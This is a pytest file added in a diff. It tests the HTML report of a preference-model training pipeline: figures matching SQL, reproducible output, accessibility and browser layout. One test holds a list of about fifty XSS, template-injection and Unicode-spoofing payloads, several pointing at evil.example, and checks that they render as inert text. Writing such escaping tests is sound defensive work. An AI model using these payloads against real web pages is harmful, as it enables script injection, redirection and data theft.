@@ -1,0 +1,495 @@
+"""The report: its numbers are SQL's, its bytes are always the same, and in a real browser it is one quiet page.
+
+Whatever a prompt, an answer or a file's name says stays text there: pages of hostile texts and of harmless ones have the same elements.
+"""
+
+import dataclasses
+import json
+import os
+import re
+import shutil
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pytest
+from chromium_for_tests import CHROMIUM, Page, chromium
+from click.testing import CliRunner
+from conftest import PREFCACHE, write_config, write_pairs
+
+from pipeline.report import charts, figures, intervals, page, words
+from pipeline.report.data import Reason, Source
+from pipeline.report.intervals import Estimate
+from pipeline.report.runs import Shown, Token
+from pipeline.report.visible import visible
+from stages import report
+
+# -- a small real experiment -----------------------------------------------------------------------------------------
+
+
+def run_command(*arguments: Any) -> str:
+    from stages.cli import main
+
+    done = CliRunner().invoke(main, [str(each) for each in arguments], catch_exceptions=False)
+    assert done.exit_code == 0, done.stderr
+    return done.stdout
+
+
+@pytest.fixture(scope="module")
+def experiment(tmp_path_factory, model) -> Path:
+    """60 pairs and a record that is none; a run, and one whose learning rate raises alerts."""
+    folder = tmp_path_factory.mktemp("experiment")
+    write_pairs(folder / "pairs.jsonl", 60)
+    with open(folder / "pairs.jsonl", "a") as file:
+        file.write(json.dumps({"prompt": "why <b>?", "chosen": "so", "rejected": "so"}) + "\n")
+    config = write_config(folder, model, epochs=6, eval_every=10)
+    hot = ("run=hot", "learning_rate=0.1", "batch_size=16", "epochs=12")
+    hot = [word for setting in hot for word in ("--set", f"train.{setting}")]
+    with pytest.MonkeyPatch.context() as patch:
+        patch.chdir(folder)
+        for command in (("prepare",), ("score",), ("train",), ("train", *hot)):
+            run_command(command[0], config, *command[1:], "--set", "prepare.held_out=0.4")
+    return folder
+
+
+@pytest.fixture(autouse=True)
+def there(experiment, monkeypatch) -> None:
+    monkeypatch.chdir(experiment)
+
+
+def written(*arguments: Any) -> str:
+    return Path(json.loads(run_command("report", "--json", *arguments))["report"]).read_text(encoding="utf-8")
+
+
+def ask(query: str) -> dict[str, Any]:
+    (row,) = json.loads(run_command("sql", "--json", query, "runs/tiny"))
+    return row
+
+
+def row_of(html: str, title: str) -> list[str]:
+    """The cells of the table's row that begins with `title`."""
+    row = next(row for row in re.findall(r"<tr>.*?</tr>", html, re.DOTALL) if re.search(f">{title} ?<", row))
+    return [re.sub(r"<small>.*?</small>|<[^>]*>", "", cell) for cell in re.findall(r"<td.*?</td>", row, re.DOTALL)]
+
+
+# -- what it says ----------------------------------------------------------------------------------------------------
+
+
+def test_held_out_results_are_those_of_sql():
+    html = written("config.yaml")
+    query = (
+        "select avg((chosen_logp > rejected_logp)::int) as preferred, avg((margin > 0)::int) as accuracy, avg(margin) as margin, "
+        "avg(loss) as loss, avg(chosen_logp) as chosen from steps where run = 'trained' and split = 'held_out' and step = {}"
+    )
+    before, after = (ask(query.format(step)) for step in ("0", "(select max(step) from steps where run = 'trained')"))
+    minus = str.maketrans("-", "\N{MINUS SIGN}")
+    shares = [f"{row['preferred']:.1%}" for row in (before, after)]
+    assert row_of(html, "chosen answer more likely than rejected")[:2] == shares
+    assert row_of(html, "reward accuracy") == ["\N{EN DASH}", f"{after['accuracy']:.1%}", "\N{EN DASH}"]
+    assert row_of(html, "reward margin")[:2] == ["0.000", f"{after['margin']:.3f}".translate(minus)]
+    assert row_of(html, "loss")[:2] == [f"{row['loss']:.3f}" for row in (before, after)]
+    change = after["chosen"] - before["chosen"]
+    assert row_of(html, "log-prob of chosen answers")[2] == words.figure(Estimate(change, 0, 0), "+nats")
+
+
+def test_it_says_how_the_run_went_and_what_the_data_is():
+    html = written("config.yaml")
+    n = ask(
+        "select count(*) filter (split = 'train') as train, count(*) filter (split = 'held_out') as held from examples"
+    )
+    assert f"{n['train']} training and {n['held']} held-out pairs came of 61 records; 1 is in quarantine." in html
+    steps = ask("select max(step) as n from steps where run = 'trained'")["n"]
+    assert f"The run is finished: {steps} steps in " in html
+    agrees = ask("select avg((margin > 0)::int) as share from pairs where split = 'train'")["share"]
+    assert row_of(html, "train")[1] == f"{agrees:.1%}" and row_of(html, "train")[2] == f"{1 - agrees:.1%}"
+    (reason,) = json.loads(run_command("sql", "--json", "select reason, line from quarantine", "runs/tiny"))
+    assert reason["reason"] in html and f"line {reason['line']}" in html and "why &lt;b&gt;?" in html
+    manifest = json.loads(Path("runs/tiny/trained/manifest.json").read_text())
+    provenance = json.loads(Path("runs/tiny/trained/provenance.json").read_text())
+    ids = [provenance["inputs"]["prepared"], provenance["inputs"]["reference"], *provenance["inputs"]["numerics"]]
+    assert all(each in html for each in [*ids, *(entry["xxh3_128"] for entry in manifest["model"])])
+    assert "prefcache train runs/tiny/trained/config.yaml" in html
+
+
+def test_alerts_are_listed_and_marked_on_their_curves():
+    html = written("config.yaml", "--set", "train.run=hot")
+    alerts = json.loads(
+        run_command("sql", "--json", "select step, kind, seen from alerts where run = 'hot'", "runs/tiny")
+    )
+    assert alerts
+    listed = html[html.index('id="alerts"') : html.index('id="samples"')]
+    assert all(f">{alert['step']}<" in listed and alert["kind"] in listed for alert in alerts)
+    marks = re.findall(r"<text[^>]*var\(--alert\)[^>]*>(\d+)</text>", html)
+    assert sorted(map(int, marks)) == list(range(1, len(alerts) + 1))
+
+
+def test_runs_are_compared_on_one_page():
+    html = written("runs/tiny")
+    assert (Path("runs/tiny/report.html")).exists() and "2 runs side by side: hot, trained." in html
+    loss = html[html.index('id="figure-loss"') : html.index('id="figure-margins"')]
+    assert "var(--run-1)" in loss and "var(--run-2)" in loss and "var(--run-3)" not in loss
+    # Each of six measures has a row of each run.
+    assert html.count("<td>trained</td>") == 6 <= html.count("<td>hot</td>")
+    assert written("runs/tiny", "--run", "trained") == written("config.yaml")
+
+
+def test_an_unfinished_run_is_reported_as_far_as_it_came():
+    shutil.copytree("runs/tiny/trained", "runs/tiny/begun")
+    try:
+        Path("runs/tiny/begun/manifest.json").unlink()
+        html = written("runs/tiny", "--run", "begun")
+        assert "The run is not finished: it has come to step" in html
+        assert "There are none: the run is not finished" in html and "figure-loss" in html
+    finally:
+        shutil.rmtree("runs/tiny/begun")
+
+
+def test_data_alone_and_data_with_a_reference_have_a_page_that_says_what_is_missing(tmp_path, monkeypatch, model):
+    monkeypatch.chdir(tmp_path)
+    write_pairs(tmp_path / "pairs.jsonl", 20)
+    config = write_config(tmp_path, model)
+    run_command("prepare", config)
+    html = written("config.yaml")
+    assert "prefcache score config.yaml" in html and "prefcache train config.yaml" in html and "figure-lengths" in html
+    run_command("score", config)
+    html = written("config.yaml")
+    assert "prefcache score config.yaml" not in html and "prefcache train config.yaml" in html
+    assert "figure-ref-margins" in html and "figure-loss" not in html
+
+
+def test_labels_have_their_page(tmp_path, monkeypatch, model):
+    monkeypatch.chdir(tmp_path)
+    write_pairs(tmp_path / "pairs.jsonl", 30)
+    config = write_config(tmp_path, model, loss="kto", epochs=1)
+    for stage in ("prepare", "score", "train"):
+        run_command(stage, config, "--set", "prepare.examples=labels", "--set", "prepare.held_out=0.4")
+    html = written("config.yaml")
+    after = json.loads(Path("runs/tiny/trained/manifest.json").read_text())["after"]["evaluation"]
+    assert row_of(html, "reward accuracy")[1] == f"{after['rewards/accuracies']:.1%}"
+    margin = words.figure(Estimate(after["rewards/margins"], 0, 0), "")
+    assert row_of(html, "reward margin")[1] == margin
+    assert "log-prob of undesirable answers" in html and "of the answers are desirable" in html
+
+
+def test_what_it_cannot_do_is_said(prefcache, experiment, monkeypatch):
+    monkeypatch.chdir(experiment)
+    assert "has no run 'x'. It has hot, trained." in prefcache("report", "runs/tiny", "--run", "x", code=2).stderr
+    assert "Leave one of them out" in prefcache("report", "runs/tiny", "--set", "out=y", code=2).stderr
+    assert "no finished preparation" in prefcache("report", "config.yaml", "--set", "out=nowhere", code=2).stderr
+    assert "is a folder" in prefcache("report", "config.yaml", "--out", "runs", code=2).stderr
+    damaged = Path("runs/tiny/trained/tokens.parquet")
+    whole = damaged.read_bytes()
+    try:
+        damaged.write_bytes(whole[:-1])
+        assert "Train again" in prefcache("report", "config.yaml", code=4).stderr
+    finally:
+        damaged.write_bytes(whole)
+
+
+def test_the_same_inputs_give_the_same_bytes_in_another_process(tmp_path):
+    command = [PREFCACHE, "report", "config.yaml", "--quiet", "--output", tmp_path / "again.html"]
+    # Another order of sets, another place for matplotlib's own files, and a matplotlibrc that would change every figure.
+    (tmp_path / "matplotlibrc").write_text("lines.linewidth: 9\nsvg.fonttype: path\n")
+    environment = {**os.environ, "PYTHONHASHSEED": "7", "MPLCONFIGDIR": str(tmp_path), "TZ": "Asia/Tokyo", "LANG": "C"}
+    done = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=300)
+    assert (done.returncode, done.stderr) == (0, "")
+    assert (tmp_path / "again.html").read_text(encoding="utf-8") == written("config.yaml")
+
+
+# -- figures and numbers ---------------------------------------------------------------------------------------------
+
+
+def test_wilsons_interval_is_the_known_one():
+    # Of 8 in 10; Wilson without continuity correction, as tabulated: 0.4902 to 0.9433.
+    found = intervals.share(np.array([1] * 8 + [0] * 2))
+    assert (found.value, found.low, found.high) == pytest.approx((0.8, 0.49016, 0.94332), abs=1e-5)
+    assert intervals.share(np.ones(20)).low == pytest.approx(
+        20 / (20 + 1.959964**2)
+    )  # n / (n + z^2) where all are right
+
+
+def test_the_bootstrap_is_the_normal_interval_where_that_holds_and_always_the_same():
+    values = np.random.default_rng(1).normal(3, 2, 2000)
+    found, error = intervals.mean(values), 1.96 * values.std() / 2000**0.5
+    assert found.low == pytest.approx(values.mean() - error, abs=0.02)
+    assert found.high == pytest.approx(values.mean() + error, abs=0.02)
+    assert intervals.mean(values) == found
+    assert intervals.mean(np.full(5, 2.0)) == Estimate(2, 2, 2)
+
+
+@pytest.mark.parametrize(
+    ("value", "unit", "text"),
+    [
+        (0.534, "%", "53.4%"),
+        (-0.01, "+%", "\N{MINUS SIGN}1.0 points"),
+        (1.23456, "", "1.235"),
+        (-0.0001, "", "0.000"),
+        (0.5, "+nats", "+0.500"),
+        (-1234.5, "nats", "\N{MINUS SIGN}1,234.5"),
+    ],
+)
+def test_numbers_are_written_for_a_reader(value, unit, text):
+    assert words.figure(Estimate(value, value, value), unit) == text
+
+
+def test_a_long_line_is_drawn_by_means_of_neighbours():
+    x, y = figures.averaged(np.arange(480.0), np.arange(480.0) * 2)
+    assert len(x) == 240 and (x[0], y[0]) == (0.5, 1) and (x[-1], y[-1]) == (478.5, 957)
+    assert figures.averaged(np.arange(5.0), np.arange(5.0))[0].tolist() == [0, 1, 2, 3, 4]
+    # Of 48 values, two neighbours on either side: 6 becomes 6 / 5 in five places.
+    assert figures.smoothed(np.array([0.0] * 20 + [6] + [0] * 27))[17:24] == pytest.approx([0] + [1.2] * 5 + [0])
+
+
+def test_what_lies_beyond_a_histogram_is_in_its_last_bars():
+    edges = np.array([0.0, 1, 2])
+    assert charts._counts(np.array([-5, 0.5, 1.5, 9]), edges).tolist() == [2, 2]
+
+
+def test_a_figure_is_drawn_in_the_pages_colours_and_tells_itself_in_words():
+    line = figures.Line("a <b> & $x$", "a run", np.array([1.0, 2]), np.array([3.0, 4]), figures.CHOSEN)
+    drawn = figures.curves("loss", "Loss <i>", [line], "nats", [(2, 7)])
+    assert "#0f0f" not in drawn.svg and "var(--chosen)" in drawn.svg and "font-family" not in drawn.svg
+    assert "a &lt;b&gt; &amp; $x$" in drawn.svg and "Loss &lt;i&gt;" in drawn.svg and ">7</text>" in drawn.svg
+    assert drawn.description == "a run goes from 3 at step 1 to 4 at step 2."
+    assert figures.curves("loss", "Loss <i>", [line], "nats", [(2, 7)]).svg == drawn.svg
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("a\tb\nc", "a\tb\nc"),
+        ("a\x1b[31mred\x1b[0m\x00\x7f\x85", "a␛[31mred␛[0m␀<U+007F><U+0085>"),
+        ("\u202egnp.exe\u2066", "<U+202E>gnp.exe<U+2066>"),
+        ("a\u200bb\ufeff\u2028", "a<U+200B>b<U+FEFF><U+2028>"),
+        ("\ud800", "<U+D800>"),
+        (
+            "na\u00efve \u0928\u094d\u200d \U0001f469\u200d\U0001f52c\u00a0x",
+            "na\u00efve \u0928\u094d\u200d \U0001f469\u200d\U0001f52c\u00a0x",
+        ),
+        ("Z" + "\u0301" * 20 + "a\u0301", "Z" + "\u0301" * 4 + "<16 more marks>a\u0301"),
+        ("\u05e9\u05dc\u05d5\u05dd", "\u05e9\u05dc\u05d5\u05dd"),
+        ("x" * 1600, "x" * 1500 + " ... (100 more characters)"),
+    ],
+)
+def test_what_would_not_be_seen_is_shown_by_name(text, shown):
+    assert visible(text) == shown
+
+
+# -- in a real browser -----------------------------------------------------------------------------------------------
+
+needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: how the page behaves was not looked at")
+
+FLAG = "window.struck=1"
+HOSTILE = [
+    f"<script>{FLAG}</script>",
+    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{FLAG}",
+    f"</script><script>{FLAG}</script>",
+    f"</style><script>{FLAG}</script>",
+    "</style><style>*{display:none}</style>",
+    f"</title><script>{FLAG}</script>",
+    f"</textarea></pre></code><script>{FLAG}</script>",
+    f"</svg></desc></title><script>{FLAG}</script>",
+    f"<img src=x onerror={FLAG}>",
+    f"<img src='//evil.example/pixel.png' onload='{FLAG}'>",
+    f"<svg onload={FLAG}>",
+    f"<svg><script>{FLAG}</script></svg>",
+    f"<svg><animate onbegin={FLAG} attributeName=x dur=1s>",
+    f"<svg><foreignObject><body onload={FLAG}></foreignObject></svg>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={FLAG}>",
+    f"<iframe srcdoc='<script>parent.{FLAG}</script>'></iframe>",
+    "<iframe src=https://evil.example></iframe>",
+    f"<object data='data:text/html,<script>{FLAG}</script>'></object>",
+    "<embed src=//evil.example/x.swf>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><input name=x autofocus onfocus=window.struck=1></form>",
+    f"<details open ontoggle={FLAG}>",
+    f"<video><source onerror={FLAG}></video>",
+    f"<body onpageshow={FLAG}>",
+    f"<a href='javascript:{FLAG}'>press</a>",
+    f"[press](javascript:{FLAG})",
+    f"javascript:{FLAG}",
+    f"data:text/html,<script>{FLAG}</script>",
+    f'" onmouseover="{FLAG}" x="',
+    f"' autofocus onfocus='{FLAG}' tabindex=0 x='",
+    f"`onclick={FLAG}`",
+    "&lt;b&gt;&amp;&#60;&#x3c;script&#62;&nbsp;&NotAnEntity;",
+    f"&lt;script&gt;{FLAG}&lt;/script&gt;",
+    "{{ 7 * 7 }}{% raw %}{{ config }}{# x #}",
+    "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}",
+    "${7*7}#{7*7}<%= 7*7 %>[[7*7]]",
+    "<!--><script>window.struck=1</script-->",
+    "<![CDATA[<b>bold</b>]]><?xml version='1.0'?><!DOCTYPE html>",
+    "@import url(//evil.example); body{background:url(//evil.example/x)} expression(1)",
+    "<div style='position:fixed;inset:0;background:red'>over everything</div>",
+    "\u202eright to left override\u202c \u2066isolate \u2067and never closed",
+    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 with digits 123",
+    "\x1b[2J\x1b]0;title\x07\x1b[31mred",
+    "null\x00byte\x08\x7f\x9b\ufffe\ud83d",
+    "word" * 500,
+    "\u00a0" * 300 + "\t" * 50,
+    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349" * 12,
+    "\ufdfd" * 40 + "\U00012031" * 20,
+]
+
+
+def facts_of(texts: list[str]) -> page.Facts:
+    """The experiment, with these texts wherever a text may come from data, a model or a name."""
+    facts = report.facts(Path("runs/tiny"), "config.yaml", ["hot"])
+    run, some = facts.runs[0], iter(texts * 20)
+    assert run.alerts and run.held_out
+    samples = [
+        {"example_id": text, "prompt": text, "before": text, "after": text, "before_kind": None, "after_kind": None}
+        for text in texts
+    ]
+    shown = [
+        Shown(text, 1.0, text, {"chosen": [Token(text, 0.7, -1.0)] * 2, "rejected": [Token(text, None, -1.0)]})
+        for text in texts
+    ]
+    alerts = [{**alert, "seen": next(some), "why": next(some), "remedy": next(some)} for alert in run.alerts]
+    provenance = {**run.record.provenance, "model": next(some), "versions": {next(some): next(some)}}
+    record = dataclasses.replace(
+        run.record,
+        samples=samples,
+        provenance=provenance,
+        config="\n".join(texts),
+        folder=Path(next(some).replace("/", "_")),
+    )
+    places = [{"source": text, "line": 1, "detail": text, "raw": text} for text in texts]
+    sources = [
+        Source(text, {"train": 1, "held_out": 1}, {"prompt": 1.0, "chosen": 1.0, "rejected": 1.0}) for text in texts
+    ]
+    return dataclasses.replace(
+        facts,
+        experiment=next(some),
+        config=next(some),
+        data=dataclasses.replace(
+            facts.data, sources=sources, quarantined=[Reason(next(some), 50, places)], formats=[next(some)]
+        ),
+        reference=dataclasses.replace(facts.reference, name=next(some)),
+        runs=[dataclasses.replace(run, record=record, samples=samples, shown=shown, alerts=alerts)],
+    )
+
+
+@pytest.fixture(scope="module")
+def browser(tmp_path_factory) -> Iterator[Page]:
+    with chromium(tmp_path_factory.mktemp("chromium")) as tab:
+        yield tab
+
+
+SKELETON = """
+[...document.querySelectorAll('*')].map(e => e.tagName + '[' + [...e.attributes].map(a => a.name).sort() + ']').join(' ')
+"""
+OVERFLOWING = """
+[...document.querySelectorAll('body *')].filter(e => !e.closest('.scroll') && !e.closest('svg'))
+.filter(e => e.getBoundingClientRect().right > innerWidth + 0.5 || e.getBoundingClientRect().left < -0.5)
+.map(e => e.outerHTML.slice(0, 200))
+"""
+FIGURES = """
+[...document.querySelectorAll('figure svg')].map(svg => ({
+  box: [svg.getBoundingClientRect().width, svg.getBoundingClientRect().height],
+  drawn: [...svg.querySelectorAll('path')].filter(p => p.getBBox().width || p.getBBox().height).length,
+  texts: [...svg.querySelectorAll('text')].map(t => getComputedStyle(t).fill),
+  named: svg.getAttribute('aria-labelledby').split(' ').every(id => document.getElementById(id).textContent),
+  broken: [...svg.querySelectorAll('use')].filter(u => !document.querySelector(u.getAttribute('href'))).length,
+}))
+"""
+
+
+def quiet(tab: Page, file: Path) -> None:
+    """Nothing was asked of any other place, and nothing was complained of."""
+    assert {request["request"]["url"] for request in tab.of("Network.requestWillBeSent")} == {file.as_uri()}
+    assert tab.of("Log.entryAdded", "Runtime.exceptionThrown", "Runtime.consoleAPICalled") == []
+    assert tab.of("Page.javascriptDialogOpening", "Target.targetCreated", "Page.windowOpen") == []
+
+
+@needs_chromium
+@pytest.mark.parametrize("runs", ["trained", "hot trained"])
+def test_the_page_is_whole_in_a_browser_on_a_phone_and_a_desk_by_day_and_by_night(browser, tmp_path, runs):
+    names = [word for run in runs.split() for word in ("--run", run)]
+    written("runs/tiny", *names, "--out", file := tmp_path / "report.html")
+    browser.events.clear()
+    for width, dark in ((390, False), (1440, True)):
+        browser.open(file, width, dark=dark)
+        assert browser.value("document.documentElement.scrollWidth <= innerWidth") is True
+        assert browser.value(OVERFLOWING) == []
+        found = browser.value(FIGURES)
+        assert len(found) >= 12
+        ink = "rgb(228, 227, 224)" if dark else "rgb(36, 39, 43)"
+        for figure in found:
+            assert min(figure["box"]) > 150 and figure["drawn"] > 5 and figure["named"] and not figure["broken"]
+            assert figure["texts"].count(ink) > 5
+    assert browser.value("document.scripts.length") == 0
+    ids = browser.value("[...document.querySelectorAll('[id]')].map(e => e.id)")
+    assert len(set(ids)) == len(ids)
+    links = browser.value("[...document.links].map(a => a.getAttribute('href'))")
+    assert links and all(link.startswith("#") and link[1:] in ids for link in links)
+    quiet(browser, file)
+
+
+CONTRASTS = """
+['ink', 'soft', 'chosen', 'rejected', 'alert', ...Array.from({length: 8}, (_, n) => `run-${n + 1}`)].map(name => {
+  const probe = document.body.appendChild(document.createElement('p'));
+  const light = role => {
+    probe.style.color = `var(--${role})`;
+    const parts = getComputedStyle(probe).color.match(/\\d+/g).map(v => v / 255).map(v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
+    return 0.2126 * parts[0] + 0.7152 * parts[1] + 0.0722 * parts[2];
+  };
+  const [a, b] = [light(name), light('page')];
+  probe.remove();
+  return [name, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)];
+})
+"""
+
+
+@needs_chromium
+@pytest.mark.parametrize("dark", [False, True])
+def test_text_and_lines_stand_out_from_the_page(browser, tmp_path, dark):
+    """By WCAG 2's formula: 4.5 to 1 is what it asks of text, and more than the 3 to 1 of lines."""
+    written("runs/tiny", "--run", "trained", "--out", file := tmp_path / "report.html")
+    browser.open(file, dark=dark)
+    found = dict(browser.value(CONTRASTS))
+    assert len(found) == 13
+    assert {name: ratio for name, ratio in found.items() if ratio < 4.5} == {}
+
+
+@needs_chromium
+def test_hostile_texts_stay_texts(browser, tmp_path):
+    assert len(HOSTILE) == 50
+    files = {}
+    for name, texts in (("hostile", HOSTILE), ("harmless", ["a text"] * 50)):
+        html = page.render(facts_of(texts))
+        files[name] = tmp_path / f"{name}.html"
+        # Without the policy that forbids scripts and requests in any case: what holds here is the escaping alone.
+        files[name].write_text(re.sub("<meta http-equiv[^>]*>", "", html), encoding="utf-8")
+    browser.open(files["harmless"])
+    skeleton = browser.value(SKELETON)
+    browser.events.clear()
+    for width in (390, 1440):
+        browser.open(files["hostile"], width)
+        assert browser.value("document.documentElement.scrollWidth <= innerWidth") is True
+        assert browser.value(OVERFLOWING) == []
+        assert browser.value("window.struck") is None
+        # Not an element, not an attribute more than with harmless texts.
+        assert browser.value(SKELETON) == skeleton
+    quiet(browser, files["hostile"])
+    said = browser.value("document.body.textContent")
+    plain = [text for text in HOSTILE if text.isprintable() and len(text) < 1000 and "\u0351" not in text]
+    assert len(plain) >= 43 and all(said.count(text) >= 5 for text in plain)
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", said)
+
+
+@needs_chromium
+def test_on_paper_everything_is_there_and_nothing_is_cut(browser, tmp_path):
+    written("runs/tiny", "--run", "trained", "--out", file := tmp_path / "report.html")
+    browser.open(file, 700, media="print")
+    assert browser.value("getComputedStyle(document.querySelector('nav')).display") == "none"
+    assert browser.value(
+        "[...document.querySelectorAll('details pre')].every(e => e.getBoundingClientRect().height > 20)"
+    )
+    assert browser.value(
+        "[...document.querySelectorAll('figure svg')].every(e => e.getBoundingClientRect().width > 100)"
+    )
